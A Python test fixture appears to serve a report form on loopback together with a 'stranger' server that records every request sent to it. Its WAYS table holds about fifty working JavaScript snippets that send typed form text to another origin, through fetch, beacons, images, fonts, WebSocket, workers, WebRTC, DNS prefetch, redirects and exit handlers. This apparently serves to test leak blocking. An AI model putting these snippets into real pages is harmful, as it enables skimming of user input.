"""A form whose page sends what is typed into it to a stranger, in every way that a page has; and the stranger.

Both on loopback: the form on 127.0.0.1, the stranger on ``localhost``, which is another host to a browser.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

from servers.http_request import read_request

WAYS: Mapping[str, str] = {
    "fetch": "fetch(E + '/fetch?' + P, {mode: 'no-cors'})",
    "fetch with a body": "fetch(E + '/body', {method: 'POST', body: T, mode: 'no-cors'})",
    "fetch without text": "fetch(E + '/bare', {method: 'POST', mode: 'no-cors'})",
    "fetch of another method": "fetch(E + '/put', {method: 'PUT', body: T})",
    "fetch with a header": "fetch(E + '/header', {headers: {'x-a': btoa(P)}})",
    "fetch that outlives the page": "fetch(E + '/keepalive', {method: 'POST', body: T, mode: 'no-cors', keepalive: 1})",
    "fetch in base64": "fetch(E + '/base64?' + btoa(P), {mode: 'no-cors'})",
    "fetch in hex": "fetch(E + '/hex?' + [...P].map(c => c.charCodeAt(0).toString(16)).join(''), {mode: 'no-cors'})",
    "fetch of much": "fetch(E + '/long?' + 'abc'.repeat(3000), {mode: 'no-cors'})",
    "XMLHttpRequest": "(x => { x.open('POST', E + '/xhr'); x.send(T); })(new XMLHttpRequest())",
    "beacon": "navigator.sendBeacon(E + '/beacon', T)",
    "multipart": "(d => { d.append('a', T); navigator.sendBeacon(E + '/multipart', d); })(new FormData())",
    "image": "new Image().src = E + '/image?' + P",
    "referrer": "(history.replaceState(0, '', '?' + P), fetch(E + '/referrer', {mode: 'no-cors', "
    "referrerPolicy: 'unsafe-url'}))",
    "script": "add('script', {src: E + '/script?' + P})",
    "style": "add('link', {rel: 'stylesheet', href: E + '/style?' + P})",
    "background": "document.body.style.backgroundImage = `url(${E}/background?${P})`",
    "font": "new FontFace('x', `url(${E}/font?${P})`).load()",
    "video": "add('video', {src: E + '/video?' + P, poster: E + '/poster?' + P})",
    "object": "add('object', {data: E + '/object?' + P})",
    "icon": "add('link', {rel: 'icon', href: E + '/icon?' + P})",
    "prefetch": "add('link', {rel: 'prefetch', href: E + '/prefetch?' + P})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: E + '/preload?' + P})",
    "speculation": "add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', "
    "urls: [E + '/speculation?' + P]}]})})",
    "frame": "add('iframe', {src: E + '/frame?' + P})",
    "form into a frame": "(add('iframe', {name: 'zz'}), post('zz', '/framed'))",
    "window": "open(E + '/window?' + P)",
    "window without opener": "open(E + '/noopener?' + P, '_blank', 'noopener')",
    "form into a window": "post('_blank', '/windowed')",
    "frame of its own": "add('iframe', {srcdoc: inner('srcdoc')})",
    "frame in a sandbox": "add('iframe', {sandbox: 'allow-scripts', srcdoc: inner('sandbox')})",
    "events": "new EventSource(E + '/events?' + P)",
    "WebSocket": "new WebSocket(W + '/websocket?' + P)",
    "ping": "add('a', {href: '#a', ping: E + '/ping?' + P}).click()",
    "worker": "new Worker(blob(script('worker')))",
    "worker of a worker": "new Worker(blob(`new Worker('${blob(script('nested'))}')`))",
    "shared worker": "new SharedWorker(blob(script('shared')))",
    "worklet": "new AudioContext().audioWorklet.addModule(E + '/worklet?' + P)",
    "module": "import(E + '/module?' + P)",
    "redirect of the form's own": "fetch('/redirect?' + E + '/redirected', {method: 'POST', body: T, mode: 'no-cors'})",
    "redirect of an image": "new Image().src = '/redirect?' + E + '/redirected?' + P",
    "security policy": "add('iframe', {src: '/policy'})",
    "connection in advance": "add('link', {rel: 'preconnect', href: `http://${P}.localhost:${PORT}`})",
    "name in advance": "add('link', {rel: 'dns-prefetch', href: `http://${P}.localhost:${PORT}`})",
    "WebRTC": "(p => { p.createDataChannel('a'); p.setLocalDescription(); })(new RTCPeerConnection({iceServers: "
    "['tcp', 'udp'].map(t => ({urls: `turn:127.0.0.1:${PORT}?transport=${t}`, username: P, credential: 'x'}))}))",
    "WebTransport": "new WebTransport(`https://localhost:${PORT}/transport?${P}`)",
    "payment": "new PaymentRequest([{supportedMethods: E + '/payment?' + P}], {total: {label: 'a', amount: {currency: "
    "'EUR', value: '1'}}}).canMakePayment()",
    "identity": "navigator.credentials.get({identity: {providers: [{configURL: E + '/identity?' + P, clientId: P}]}})",
    "when it is left": "addEventListener('pagehide', () => { navigator.sendBeacon(E + '/left', T); "
    "fetch(E + '/leaving?' + P, {keepalive: true, mode: 'no-cors'}); })",
    "later": "window.fetchLater && fetchLater(E + '/later?' + P)",
}
"""What a script does to send text ``T`` (``P``, as a part of an address) to the stranger at ``E``."""

_HELPERS = """
const add = (kind, what) => { const e = document.createElement(kind); Object.assign(e, what); document.body.append(e);
  return e; };
const post = (target, path) => { const f = add("form", {action: E + path, method: "post", target});
  f.innerHTML = "<input name=a>"; f.firstChild.value = T; f.submit(); };
const blob = text => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
const script = name => `fetch("${E}/${name}?${P}", {mode: "no-cors"}); new WebSocket("${W}/${name}ws?${P}");
  fetch("${E}/${name}", {method: "POST", body: "${P}", mode: "no-cors"});`;
const inner = name => `<script>${script(name)} navigator.sendBeacon("${E}/${name}beacon", "${P}")<` + `/script>`;
"""


@dataclass
class LeakySite:
    """``posted`` are the bodies that the form took, ``stranger`` is all that anybody said to the stranger, a
    connection each; ``news`` is set at each. ``way`` is what its page does before it sends the form, ``leads`` where
    the form goes then. The form is answered once the stranger was asked for all of ``awaited`` (``GET /image``)."""

    way: str = ""
    leads: str = ""
    posted: list[str] = field(default_factory=list)
    stranger: list[str] = field(default_factory=list)
    news: asyncio.Event = field(default_factory=asyncio.Event)
    awaited: frozenset[str] = frozenset()
    url: str = ""
    port: int = 0

    def page(self) -> str:
        """The page with the form; its picture is the stranger's, as it may be."""
        ways = "".join(f"try {{ const r = {way}; if (r && r.catch) r.catch(() => 0); }} catch (e) {{}}\n"
            for way in (WAYS.values() if self.way == "all" else [self.way] if self.way else []))  # fmt: skip
        leads = f"this.action = E + '{self.leads}';" if self.leads else ""
        return f"""<!DOCTYPE html><title>Report</title><img src="http://localhost:{self.port}/picture.png">
<form id="form" method="post" action="/form"><label>Description<textarea name="text"></textarea></label>
<button>Send</button></form><script>
const PORT = {self.port}, E = "http://localhost:" + PORT, W = "ws://localhost:" + PORT; let T = "", P = "";
{_HELPERS}
let sent = false;
document.getElementById("form").addEventListener("submit", function (event) {{
  if (sent) return; sent = true; event.preventDefault();
  T = this.elements.text.value; P = T.match(/[a-z2-7]{{40}}/)[0];
  {ways}
  {leads}
  setTimeout(() => this.submit(), 1500);
}});
</script>"""

    def asked(self) -> set[str]:
        """What the stranger was asked for, by method and path."""
        return {said.split("?")[0].split(" HTTP")[0] for said in self.stranger}

    async def heard(self, awaited: frozenset[str]) -> None:
        """Wait until the stranger was asked for all of it; half a minute at most."""
        with suppress(TimeoutError):
            async with asyncio.timeout(30):
                while not awaited <= self.asked():
                    self.news.clear()
                    await self.news.wait()

    async def serve_form(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """The form's site."""
        try:
            while True:
                method, path, body = await read_request(reader)
                if (method, path) == ("POST", "/form"):
                    await self.heard(self.awaited)
                writer.write(self._answer(method, path, body.decode()))
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    def _answer(self, method: str, path: str, body: str) -> bytes:
        if path.startswith("/redirect?"):
            return f"HTTP/1.1 307 T\r\nLocation: {path.partition('?')[2]}\r\nContent-Length: 0\r\n\r\n".encode()
        if path == "/policy":
            to = f"Content-Security-Policy: img-src 'none'; report-uri http://localhost:{self.port}/report\r\n"
            return _html("<script>new Image().src = '/a.png'</script>", to)
        if path != "/form":
            return _html("", status="404 Not Found")
        if method == "POST":
            self.posted.append(body)
        return _html("<p>Thank you for your report" if method == "POST" else self.page())

    async def serve_stranger(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """The stranger, who answers whatever he is asked."""
        try:
            said = await reader.read(65536)
            self.stranger.append(said.decode("latin-1"))
            self.news.set()
            writer.write(_html("ok", "Access-Control-Allow-Origin: *\r\nConnection: close\r\n"))
            await writer.drain()
        except OSError:
            pass
        finally:
            writer.close()


def _html(text: str, headers: str = "", status: str = "200 OK") -> bytes:
    body = text.encode()
    head = f"HTTP/1.1 {status}\r\nContent-Type: text/html\r\n{headers}Content-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, site: LeakySite) -> None:
        self._site = site

    def datagram_received(self, data: bytes, _addr: object) -> None:
        self._site.stranger.append(data.decode("latin-1"))


@asynccontextmanager
async def leaky_site(way: str = "", leads: str = "") -> AsyncIterator[LeakySite]:
    """The site and the stranger, in the running event loop."""
    site = LeakySite(way, leads)
    form = await asyncio.start_server(site.serve_form, "127.0.0.1", 0)
    stranger = await asyncio.start_server(site.serve_stranger, "127.0.0.1", 0)
    site.port = stranger.sockets[0].getsockname()[1]
    site.url = f"http://127.0.0.1:{form.sockets[0].getsockname()[1]}/form"
    loop = asyncio.get_running_loop()
    datagrams, _ = await loop.create_datagram_endpoint(lambda: _Datagrams(site), local_addr=("127.0.0.1", site.port))
    try:
        yield site
    finally:
        datagrams.close()
        form.close()
        stranger.close()
